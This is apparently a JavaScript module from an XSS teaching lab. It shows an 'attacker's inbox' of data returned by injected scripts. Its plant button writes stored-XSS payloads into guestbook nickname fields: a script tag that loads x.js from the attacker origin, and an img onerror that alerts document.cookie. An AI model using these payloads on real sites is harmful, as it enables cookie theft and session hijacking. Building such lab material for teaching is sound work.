/** The attacker's inbox: what scripts on other people's pages have brought home. */

import { send } from './api.js';
import { element } from './dom.js';
import { time, word } from './words.js';

/** While the box is open, it is looked at so often, in milliseconds. */
const pace = 1000;

/**
 * @param {HTMLElement} box
 * @param {import('./page.js').Page} page
 */
export function inbox(box, page) {
  const entries = box.querySelector('[data-entries]');
  const find = (field) => box.querySelector(`[data-field=${field}]`);
  let seen = { origin: null, entries: [] };

  const render = () => {
    find('inbox_where').replaceChildren(...(seen.origin
      ? [word('inbox.where'), ' ', link(`${seen.origin}/`, seen.origin)]
      : [word('inbox.off'), ' ', element('code', '', 'go run . --attacker 127.0.0.1:9090')]));
    find('inbox_books').replaceChildren(word('inbox.books'), ...page.strategies.flatMap(({ slug }) => [' ', link(`/${slug}/guestbook`, slug)]));
    entries.replaceChildren(...seen.entries.map(({ at, strategy, kind, value }) => element(
      'li', '', `${time(at)} `, element('b', '', strategy), ` ${kind} `, element('code', '', value),
    )));
    if (!seen.entries.length) entries.append(element('li', 'none', word('inbox.nothing')));
  };
  const look = async () => {
    const { status, body } = await send('/classroom/inbox', { method: 'GET' });
    if (status === 200) seen = body;
    render();
    if (box.open) setTimeout(look, pace);
  };
  box.addEventListener('toggle', async () => {
    if (!box.open) return;
    box.ariaBusy = 'true';
    await look();
    box.ariaBusy = 'false';
  });
  const plant = box.querySelector('[data-inbox-plant]');
  plant.addEventListener('click', async () => {
    box.ariaBusy = 'true';
    const nickname = seen.origin ? `<script src=${seen.origin}/x.js></script>` : '<img src=x onerror="alert(document.cookie)">';
    await Promise.all(page.strategies.map((panel) => panel.act('nickname', { nickname })));
    box.ariaBusy = 'false';
  });
  box.querySelector('[data-inbox-empty]').addEventListener('click', async () => {
    await send('/classroom/inbox', { method: 'DELETE' });
    seen.entries = [];
    render();
  });
  document.addEventListener('words', () => box.open && render());
}

function link(href, text) {
  const made = element('a', '', text);
  made.href = href;
  return made;
}
